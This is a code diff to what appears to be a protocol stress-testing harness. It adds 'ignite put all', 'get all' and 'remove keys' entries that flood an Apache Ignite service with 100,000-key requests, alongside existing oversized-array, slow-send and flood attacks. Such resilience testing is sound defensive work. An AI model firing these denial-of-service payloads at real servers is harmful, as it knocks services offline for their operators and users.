@@ -63,6 +63,13 @@ def ignite_put(value: bytes) -> bytes:
     return create + encode_ignite(Request(1001, 2, (encode_long(1), value), CACHE))
 
 
+MANY_KEYS = [encode_long(number) for number in range(100_000)]
+
+
+def ignite_many(op: int, argument: object) -> bytes:
+    return encode_ignite(Request(1052, 1, ("hostile",))) + encode_ignite(Request(op, 2, (argument,), CACHE))
+
+
 def ignite_array(items: bytes, count: int) -> bytes:
     return struct.pack("<bii", 23, -1, count) + items
 
@@ -323,6 +330,11 @@ ATTACKS: dict[str, Callable[[], Attack]] = {
     ),
     "ignite elements": lambda: many("ignite", IGNITE_HELLO, ignite_put(ignite_array(b"\x65" * 249_000, 249_000))),
     "ignite too many": lambda: many("ignite", IGNITE_HELLO, ignite_put(ignite_array(b"\x65" * 15_000_000, 15_000_000))),
+    "ignite put all": lambda: many(
+        "ignite", IGNITE_HELLO, ignite_many(1004, [(one, one) for one in MANY_KEYS]), count=2
+    ),
+    "ignite get all": lambda: many("ignite", IGNITE_HELLO, ignite_many(1003, MANY_KEYS), count=2),
+    "ignite remove keys": lambda: many("ignite", IGNITE_HELLO, ignite_many(1018, MANY_KEYS), count=2),
     "ignite slowest": lambda: slowly("ignite", IGNITE_HELLO, struct.pack("<i", 60 * MIB) + bytes(60 * MIB)),
     "ignite fastest": lambda: many("ignite", IGNITE_HELLO, encode_ignite(Request(1050, 1, ())) * 100, reads=False),
     "ignite half-open": lambda: half_open("ignite", b"\1\0"),
